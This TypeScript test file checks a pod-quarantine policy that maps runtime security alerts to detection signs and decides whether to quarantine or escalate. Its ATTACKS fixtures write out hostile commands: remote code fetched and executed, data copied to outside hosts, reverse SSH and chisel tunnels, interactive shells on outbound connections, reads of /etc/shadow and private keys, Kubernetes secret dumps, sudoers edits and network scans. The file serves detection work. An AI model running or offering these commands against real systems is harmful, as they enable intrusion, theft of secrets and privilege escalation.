import type { Alert } from '../../core/incident/alert';
import type { PodFacts } from '../../core/incident/podFacts';
import { answerTo, playbook } from '../../core/policy/playbook';
import { FILE_SIGNS } from '../../core/policy/table/fileSigns';
import { NETWORK_SIGNS } from '../../core/policy/table/networkSigns';
import { PROGRAM_SIGNS } from '../../core/policy/table/programSigns';
import { signsOf } from '../../core/policy/table/raise';
import { alertOf, contextOf, normaliseAlert, payload, RECEIVED_AT } from '../support/alerts';
import { factsWith } from '../support/pods';

const REDIRECT = 'Redirect STDOUT/STDIN to Network Connection in Container';
const SEARCH = 'Search Private Keys or Passwords';
const CLEAR_LOG = 'Clear Log Activities';
const OUTSIDE = '10.244.1.9:40110->203.0.113.9:4444';
const ROOT_SHELL = { 'proc.name': 'bash', 'proc.cmdline': 'bash' };

type Fields = Readonly<Record<string, string>>;

const alertWith = (fields: Fields, rule = 'Unexpected UDP Traffic'): Alert =>
  alertOf('pod-quarantine-test', { rule, tags: [], fields, output: '' });
const namesIn = (fields: Fields, rule?: string, facts = factsWith()) =>
  signsOf(alertWith(fields, rule), facts).map(({ name }) => name);
const decided = (fields: Fields, rule: string | undefined, facts: PodFacts) => {
  const alert = alertWith(fields, rule);
  return playbook(alert, { ...contextOf(alert), facts }).decision;
};
const command = (text: string, more: Fields = {}): Fields => ({ 'proc.cmdline': text, 'proc.name': 'sh', ...more });
const read = (file: string, program: string, parent: string, more: Fields = {}): Fields => ({
  'fd.name': file,
  'proc.name': program,
  'proc.cmdline': program,
  'proc.pname': parent,
  ...more,
});

const ATTACKS: readonly (readonly [name: string, fields: Fields, rule?: string])[] = [
  ['program_in_temporary_folder', { 'proc.exepath': '/tmp/x86' }],
  ['program_in_temporary_folder', { 'proc.exepath': '/dev/shm/.k/kw' }],
  ['script_in_temporary_folder', command('python3 /tmp/.cache/m.py')],
  ['script_in_temporary_folder', command('bash /tmp/i.sh')],
  ['script_in_temporary_folder', command('mv a b', { 'proc.pcmdline': 'sh /dev/shm/s.sh' })],
  ['attack_tool', command('masscan --max-rate 10000 -p6379 10.0.0.0/8')],
  ['attack_tool', command('sh -c /usr/bin/nmap -sS 10.0.0.0/16')],
  ['attack_tool', command('hydra -l root -P /w.txt ssh://10.0.0.9')],
  ['attack_tool', command('cdk evaluate --full')],
  ['attack_tool', { 'proc.exepath': '/home/a/peirates' }],
  ['tunnel_by_hand', command('chisel client 203.0.113.9:443 R:socks', { 'proc.pname': 'sh' })],
  ['attack_tools_installed', command('apt-get install -y -qq curl masscan')],
  ['installer_below_server', { 'proc.name': 'apk', 'proc.cmdline': 'apk add curl', 'proc.pname': 'php-fpm8.3' }],
  ['looks_around_below_server', command('sh -c id; curl -s http://a.example', { 'proc.pname': 'nginx' })],
  ['looks_around_below_server', command('sh -c cd /var/www;whoami;pwd', { 'proc.pname': 'apache2' })],
  ['looks_around_below_server', command('sh -c cat ../wp-config.php', { 'proc.pname': 'php-fpm' })],
  ['looks_around_below_server', command('id', { 'proc.pname': 'sh', 'proc.aname[2]': 'redis-server' })],
  ['several_looks_below_server', command('sh -c uname -a; hostname; ps aux', { 'proc.pname': 'node' })],
  ['several_looks_below_server', command('bash -c nproc && cat /proc/cpuinfo', { 'proc.pname': 'java' })],
  ['download_below_server', command('wget -q -O /tmp/k http://files.example/k', { 'proc.pname': 'php-fpm8.2' })],
  [
    'download_below_server',
    command('curl -O http://files.example/m.sh', { 'proc.pname': 'sh', 'proc.aname[2]': 'java' }),
  ],
  ['kernel_thread', { 'proc.name': '[kworker/0:2]' }],
  ['disguised_interpreter', { 'proc.exepath': '/usr/bin/perl', 'proc.cmdline': '/usr/sbin/apache2 -k start' }],
  ['user_namespace_by_hand', command('unshare -Urm bash')],
  ['shell_on_connection', { 'proc.exepath': '/bin/dash', 'fd.name': '10.0.0.1:50312->10.0.0.2:9001' }, REDIRECT],
  ['interpreter_on_connection', { 'proc.exepath': '/usr/bin/python3.12', 'fd.name': OUTSIDE }, REDIRECT],
  ['shell_with_connection', { 'proc.cmdline': 'bash -i', 'fd.name': OUTSIDE }],
  ['chat_by_script', { 'proc.exepath': '/usr/bin/perl', 'fd.name': '10.0.0.1:50990->203.0.113.77:6667' }],
  ['download_from_address', command('curl -s -o /var/lib/l http://198.51.100.7/l')],
  ['download_from_address', command('wget -qO- 198.51.100.7:8000/x')],
  ['code_from_outside', command('python3 -c import urllib.request as r;exec(r.urlopen("http://a.example/s").read())')],
  ['copy_to_address', command('scp -r /var/lib/exports root@198.51.100.44:/in/')],
  ['copy_to_address', command('rsync -a /data/ rsync://203.0.113.215/m/')],
  ['ssh_tunnel', command('ssh -fN -R 2222:127.0.0.1:22 -p 443 root@a.example')],
  ['ssh_tunnel', command('ssh -D1080 t@203.0.113.70')],
  ['ssh_with_found_key', command('ssh -o BatchMode=yes -i /tmp/.k root@10.0.0.14')],
  ['secrets_from_api', command('kubectl get secrets -A -o yaml')],
  ['secrets_from_api', command('kubectl create clusterrolebinding x --clusterrole=cluster-admin')],
  ['secrets_from_api', command('curl -sk https://10.96.0.1/api/v1/namespaces/shop/secrets')],
  ['secret_read_in_shell', read('/etc/shadow', 'awk', 'sh', { 'proc.aname[2]': 'apache2' })],
  ['secret_read_in_shell', read('/root/.ssh/id_ed25519', 'cat', 'bash', { 'proc.aname[2]': 'apache2' })],
  ['secret_read_in_shell', read('/proc/1/environ', 'strings', 'sh', { 'proc.aname[2]': 'apache2' })],
  ['secret_packed_below_server', read('/etc/shadow', 'tar', 'sh', { 'proc.aname[2]': 'node' })],
  ['hashes_read_by_server', read('/etc/shadow', 'gunicorn', 'gunicorn')],
  ['hashes_read_by_server', read('/etc/shadow', 'mysqld', 'containerd-shim')],
  ['traversal_to_account_data', { 'fd.name': '/etc/passwd', 'fd.nameraw': '/a/../../../../etc/passwd' }],
  ['search_through_folders', command('grep -rlE BEGIN RSA /home /root'), SEARCH],
  ['search_through_folders', command('find /root -name id_rsa*'), SEARCH],
  ['logs_emptied_in_shell', { ...ROOT_SHELL, 'fd.name': '/var/log/auth.log' }, CLEAR_LOG],
  ['setuid_in_temporary_folder', command('chmod 4755 /var/tmp/.sh')],
  ['setuid_in_temporary_folder', command('chmod u+s /tmp/sh')],
  ['system_program_replaced', command('mv /bin/ps /bin/ps.original')],
  ['sudo_without_password', command('sed -i $ a www-data ALL=(ALL) NOPASSWD: ALL /etc/sudoers')],
  ['unverified_packages', command('sh -c echo "deb [trusted=yes] http://a.example/d ./" > /etc/apt/sources.list')],
  ['hidden_capture', command('tcpdump -i any -A -w /tmp/.d tcp port 8080')],
];

test.each(ATTACKS.map(([name, fields, rule]) => ({ name, fields, rule })))(
  'the sign $name is in $fields',
  ({ name, fields, rule }) => {
    expect(namesIn(fields, rule)).toContain(name);
    expect(decided(fields, rule, factsWith())).toBe('quarantine_pod');
    // What masking leaves of it still shows it.
    const sent = payload('pod-quarantine-test', rule === undefined ? {} : { rule }, { 'proc.cmdline': '', ...fields });
    expect(signsOf(normaliseAlert(sent, RECEIVED_AT, 'kernel'), factsWith()).map((sign) => sign.name)).toContain(name);
    const initial = {
      kind: 'init',
      name: 'x',
      pinned: null,
      startedAt: null,
      ranSeconds: null,
      restarts: null,
    } as const;
    expect(decided(fields, rule, factsWith({ container: initial }))).toBe('escalate');
  },
);

test('every sign of these files is above', () => {
  const named = new Set(ATTACKS.map(([name]) => name));
  const signs = [...PROGRAM_SIGNS, ...NETWORK_SIGNS, ...FILE_SIGNS].map(({ name }) => name);
  expect(signs.toSorted()).toEqual([...named].toSorted());
});

const HARMLESS: readonly (readonly [fields: Fields, rule?: string])[] = [
  [{ 'proc.exepath': '/tmp/go-build2847113920/b001/exe/gen' }],
  [{ 'proc.exepath': '/tmp/_MEI8fK2xQ/helper' }],
  [{ 'proc.exepath': '/opt/tmp/app' }],
  [{ 'proc.exepath': '/tmp/x' }, 'Drop and execute new binary in container'],
  [command('bash /tmp/hadoop/nm-local-dir/usercache/etl/container_1/default_container_executor.sh')],
  [command('grep -rE masscan|nmap /src')],
  [command("sh -c ps aux | grep -E 'masscan|nmap'")],
  [command('echo nmap')],
  [command('hydra serve all --config /etc/hydra.yaml')],
  [command('medusa start')],
  [command('cdk deploy')],
  [command('frpc -c /etc/frp.toml', { 'proc.pname': 'containerd-shim' })],
  [command('apt-get install -y curl nmap-common')],
  [{ 'proc.name': 'apk', 'proc.cmdline': 'apk add curl', 'proc.pname': 'sh' }],
  [command('bash -c id -gn etl && id -Gn etl', { 'proc.pname': 'java' })],
  [command('sh -c id', { 'proc.pname': 'containerd-shim' })],
  [command('sh -c uname -a', { 'proc.pname': 'node' })],
  [command('sh -c hostname; uptime; df -h', { 'proc.pname': 'containerd-shim' })],
  [command('curl -fsS https://api.example/v1/rates', { 'proc.pname': 'php-fpm8.2' })],
  [command('curl -o /tmp/rates.json https://api.example/v1/rates', { 'proc.pname': 'sh' })],
  [command('sh -c /usr/sbin/sendmail -t -i', { 'proc.pname': 'apache2' })],
  [{ 'proc.exepath': '/usr/bin/perl', 'proc.cmdline': 'perl /app/run.pl' }],
  [command('buildah unshare')],
  [{ 'proc.name': 'bash', 'fd.name': '127.0.0.1:50712->127.0.0.1:5432' }, REDIRECT],
  [{ 'proc.name': 'xinetd', 'fd.name': '10.0.0.1:50312->10.0.0.2:2401' }, REDIRECT],
  [{ 'proc.exepath': '/usr/bin/socat', 'fd.name': '10.0.0.1:41112->10.0.0.2:9100' }, REDIRECT],
  [{ 'proc.name': 'php-fpm', 'fd.name': ':::9000' }, REDIRECT],
  [{ 'proc.cmdline': 'bash -c until (echo > /dev/tcp/db/5432); do sleep 1; done', 'fd.name': OUTSIDE }],
  [{ 'proc.cmdline': 'bash', 'fd.name': '10.0.0.1:1->10.96.0.20:5432' }],
  [{ 'proc.exepath': '/usr/bin/perl', 'fd.name': '10.0.0.1:50990->10.96.0.7:6667' }],
  [command('curl -fsSL https://get.helm.sh/helm.tar.gz -o /opt/helm.tgz')],
  [command('wget -qO /opt/x http://10.96.0.12/x.sh')],
  [command('curl -o /opt/x http://203.0.113.9.nip.example/x')],
  [command('python3 -c import urllib.request as r;print(r.urlopen("http://127.0.0.1/healthz").status)')],
  [command('rsync -a /data/ rsync://backup.backup.svc/media/')],
  [command('scp -r /data root@10.0.0.9:/in/')],
  [command('ssh -p 443 -R0:localhost:3000 a.pinggy.example')],
  [command("ssh -o SendEnv=GIT_PROTOCOL -p 443 git@ssh.github.com git-upload-pack 'a/b.git'")],
  [command('kubectl get secret tls -o jsonpath={.data}')],
  [command('kubectl rollout restart deployment/web')],
  [read('/etc/shadow', 'awk', 'lynis', { 'proc.aname[2]': 'cron' })],
  [read('/etc/shadow', 'cat', 'sh', { 'proc.aname[2]': 'containerd-shim' })],
  [read('/etc/shadow', 'cat', 'sh')],
  [read('/root/.ssh/config', 'cat', 'sh', { 'proc.aname[2]': 'apache2' })],
  [read('/etc/shadow', 'tar', 'containerd-shim')],
  [read('/etc/pam.d/svn', 'apache2', 'apache2')],
  [{ 'fd.name': '/etc/ssl/certs/ca.crt', 'fd.nameraw': '/opt/a/../../../etc/ssl/certs/ca.crt' }],
  [command('grep -q BEGIN RSA PRIVATE KEY /certs/site.pem'), SEARCH],
  [{ 'proc.name': 'logrotate', 'proc.cmdline': 'logrotate /etc/l.conf', 'fd.name': '/var/log/syslog' }, CLEAR_LOG],
  [command('chmod 1777 /tmp/uploads')],
  [command('mv /bin/app /bin/app.old')],
  [command('sed s/^Defaults// /etc/sudoers')],
  [command('sh -c echo "deb https://deb.debian.org/debian trixie main" > /etc/apt/sources.list')],
  [command('tcpdump -ni eth0 -w /tmp/rates.pcap host 10.96.44.10')],
];

test.each(HARMLESS.map(([fields, rule]) => ({ fields, rule })))('there is no sign in $fields', ({ fields, rule }) => {
  expect(namesIn(fields, rule)).toEqual([]);
});

test('a sign goes to a person where such work is done by design, and where people judged the rule', () => {
  const judged = factsWith({ history: { incidents: 4, workloads: 1, falsePositives: 2, truePositives: 0 } });
  const [tool, download] = [command('masscan -p6379 10.0.0.0/8'), command('curl -o /opt/l http://198.51.100.7/l')];
  for (const facts of [factsWith({ runsOnce: true }), factsWith({ access: ['host_path'] })])
    for (const fields of [tool, download]) expect(decided(fields, undefined, facts)).toBe('escalate');
  expect(decided(download, undefined, judged)).toBe('escalate');
  // No history of a rule makes a scanner harmless.
  expect(decided(tool, undefined, judged)).toBe('quarantine_pod');
});

test('a command that the specification declares has no sign, and a server that reads hashes still has one', () => {
  const declared = factsWith({ declared: 'command' });
  expect(namesIn({ 'proc.exepath': '/tmp/app', 'proc.cmdline': '/tmp/app' }, undefined, declared)).toEqual([]);
  expect(namesIn(command('/usr/local/bin/xmrig -c /etc/c.json'), undefined, declared)).toEqual([]);
  expect(namesIn(read('/etc/shadow', 'mysqld', 'tini'), undefined, declared)).toEqual(['hashes_read_by_server']);
});

test('a shell on a connection is contained first, and no other program is', () => {
  const first = (fields: Fields) => {
    const alert = alertWith(fields, REDIRECT);
    return answerTo(alert, { ...contextOf(alert), facts: factsWith() }).containFirst;
  };
  expect(first({ 'proc.name': 'sh', 'fd.name': OUTSIDE })).toBe(true);
  expect(first({ 'proc.name': 'xinetd', 'fd.name': OUTSIDE })).toBe(false);
});
